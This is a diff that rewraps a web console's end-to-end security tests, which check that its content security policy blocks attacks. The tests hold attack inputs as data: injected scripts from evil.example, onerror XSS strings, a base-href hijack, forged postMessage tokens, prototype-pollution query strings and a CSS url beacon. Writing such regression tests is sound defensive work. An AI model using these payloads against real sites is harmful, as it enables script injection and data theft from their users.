@@ -49,18 +49,30 @@ describe('the content security policy', () => {
       // Nothing here is held by the compiler: it is what an attacker would write.
       const attempts: (() => void)[] = [
         () => document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.ran=1' })),
-        () => document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' })),
-        () => document.body.append(Object.assign(document.createElement('script'), { src: 'data:text/javascript,window.ran=1' })),
+        () =>
+          document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' })),
+        () =>
+          document.body.append(
+            Object.assign(document.createElement('script'), { src: 'data:text/javascript,window.ran=1' }),
+          ),
         () => document.body.insertAdjacentHTML('beforeend', '<img src=/nothing onerror="window.ran=1">'),
         () => document.body.setAttribute('onclick', 'window.ran=1'),
         () => void Reflect.apply(Reflect.get(window, 'eval'), window, ['window.ran=1']),
         () => void Reflect.construct(Function, ['window.ran=1'])(),
         () => void Reflect.apply(setTimeout, window, ['window.ran=1']),
         () => void new Worker('data:text/javascript,1'),
-        () => document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<script>parent.ran=1</script>' })),
+        () =>
+          document.body.append(
+            Object.assign(document.createElement('iframe'), { srcdoc: '<script>parent.ran=1</script>' }),
+          ),
         () => document.body.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' })),
-        () => document.body.append(Object.assign(document.createElement('img'), { src: 'https://evil.example/spy.png' })),
-        () => void window.trustedTypes?.createPolicy('mine', { createHTML: (text) => text, createScriptURL: (text) => text }),
+        () =>
+          document.body.append(Object.assign(document.createElement('img'), { src: 'https://evil.example/spy.png' })),
+        () =>
+          void window.trustedTypes?.createPolicy('mine', {
+            createHTML: (text) => text,
+            createScriptURL: (text) => text,
+          }),
       ]
       // Later: what a debugger evaluates by itself is let off the policy.
       setTimeout(() => {
@@ -74,12 +86,20 @@ describe('the content security policy', () => {
         document.body.click()
       })
     })
-    await expect.poll(() => takeSeen().filter((problem) => problem.includes('policy violation')).length).toBeGreaterThanOrEqual(8)
+    await expect
+      .poll(() => takeSeen().filter((problem) => problem.includes('policy violation')).length)
+      .toBeGreaterThanOrEqual(8)
     expect(await has(page, 'ran')).toBe(false)
     expect(await page.evaluate(() => document.baseURI)).toBe(`${url}/home`)
     // What was asked for elsewhere was stopped before it left.
     const asked = takeSeen().flatMap((problem) => /^foreign request: (.*)/.exec(problem)?.[1] ?? [])
-    await expect.poll(() => asked.filter((address) => !takeSeen().some((problem) => problem.startsWith(`failed request: GET ${address} csp`)))).toEqual([])
+    await expect
+      .poll(() =>
+        asked.filter(
+          (address) => !takeSeen().some((problem) => problem.startsWith(`failed request: GET ${address} csp`)),
+        ),
+      )
+      .toEqual([])
   })
   it('F-275 no other site gets the console into a frame', async () => {
     const site = await foreignSite(`<iframe src="${url}/home" width=800 height=600></iframe>`)
@@ -116,7 +136,13 @@ describe('the content security policy', () => {
     const page = shared
     await control.clear()
     await page.evaluate(() => {
-      for (const data of ['changed', { type: 'logout' }, '?redirect=//evil.example', '<img src=x onerror=window.ran=1>', { access_token: 'x' }])
+      for (const data of [
+        'changed',
+        { type: 'logout' },
+        '?redirect=//evil.example',
+        '<img src=x onerror=window.ran=1>',
+        { access_token: 'x' },
+      ])
         window.dispatchEvent(new MessageEvent('message', { data, origin: 'https://evil.example' }))
     })
     await settled(page)
@@ -144,9 +170,11 @@ describe('the content security policy', () => {
     utils.book_append_sheet(book, utils.aoa_to_sheet([header, ...rows]), 'Sheet1')
     // xlsx types its output as any
     const buffer = Buffer.from(write(book, { type: 'array', bookType: 'xlsx', compression: true }) as ArrayBuffer)
-    await dialog
-      .locator('input[type=file]')
-      .setInputFiles({ name: 'many.xlsx', mimeType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', buffer })
+    await dialog.locator('input[type=file]').setInputFiles({
+      name: 'many.xlsx',
+      mimeType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
+      buffer,
+    })
     // Read to its end: either its rows or its columns are told, never that it cannot be read.
     await dialog
       .getByText(/共 1,?900 行|缺少/)
@@ -222,19 +250,28 @@ describe('places and addresses', () => {
   it('F-203 F-207 F-282 names, queries and colours that shadow what scripts use change nothing', async () => {
     const page = await openPage()
     await signIn(page)
-    await page.goto(`${USERS}?__proto__[polluted]=1&constructor.prototype.polluted=1&__proto__.polluted=1&root=1&location=2&keyword=__proto__`)
+    await page.goto(
+      `${USERS}?__proto__[polluted]=1&constructor.prototype.polluted=1&__proto__.polluted=1&root=1&location=2&keyword=__proto__`,
+    )
     await settled(page)
-    expect(await page.evaluate(() => [Reflect.get({}, 'polluted'), Reflect.get([], 'polluted')])).toEqual([undefined, undefined])
+    expect(await page.evaluate(() => [Reflect.get({}, 'polluted'), Reflect.get([], 'polluted')])).toEqual([
+      undefined,
+      undefined,
+    ])
     // A stored colour is taken only where it is one of those offered.
     await page.evaluate(() =>
-      localStorage.setItem('settings', JSON.stringify({ value: { color: 'red;background:url(https://evil.example/t)', language: 'zh' } })),
+      localStorage.setItem(
+        'settings',
+        JSON.stringify({ value: { color: 'red;background:url(https://evil.example/t)', language: 'zh' } }),
+      ),
     )
     await page.reload()
     await settled(page)
     expect(await page.evaluate(() => document.documentElement.outerHTML)).not.toContain('evil.example')
     // An element that a text brought in could be called like a global; the console asks for its own by other ways.
     await page.evaluate(() => {
-      for (const id of ['location', 'history', 'settings', '__config', 'trustedTypes']) document.body.append(Object.assign(document.createElement('b'), { id }))
+      for (const id of ['location', 'history', 'settings', '__config', 'trustedTypes'])
+        document.body.append(Object.assign(document.createElement('b'), { id }))
     })
     await goTo(page, '/system-management/roleManagement')
     await settled(page)
@@ -245,10 +282,14 @@ describe('places and addresses', () => {
 describe('npm start', () => {
   it('F-273 the dev server sends the same policy, and its page runs under it without a violation', async () => {
     const port = 20_000 + Math.floor(Math.random() * 20_000)
-    const child = spawn('node_modules/.bin/vite', ['--port', String(port), '--strictPort', '--mode', 'development', '--logLevel', 'warn'], {
-      env: { ...process.env, VITEST: undefined, NODE_ENV: 'development', VITE_SOCIAL_HOST: `:${port + 1}` },
-      stdio: 'ignore',
-    })
+    const child = spawn(
+      'node_modules/.bin/vite',
+      ['--port', String(port), '--strictPort', '--mode', 'development', '--logLevel', 'warn'],
+      {
+        env: { ...process.env, VITEST: undefined, NODE_ENV: 'development', VITE_SOCIAL_HOST: `:${port + 1}` },
+        stdio: 'ignore',
+      },
+    )
     const dev = `http://localhost:${port}`
     try {
       const ask = () => fetch(`${dev}/login`, { headers: { accept: 'text/html' } })
@@ -263,7 +304,8 @@ describe('npm start', () => {
         .toBe(true)
       const reply = await ask()
       const built = await fetch(`${url}/login`, { headers: { accept: 'text/html' } })
-      const same = (value: string | null) => value?.replaceAll(/ 'nonce-[\w-]+'/g, '').replaceAll(/http:\/\/localhost:\d+/g, 'social')
+      const same = (value: string | null) =>
+        value?.replaceAll(/ 'nonce-[\w-]+'/g, '').replaceAll(/http:\/\/localhost:\d+/g, 'social')
       for (const header of [
         'content-security-policy',
         'x-content-type-options',
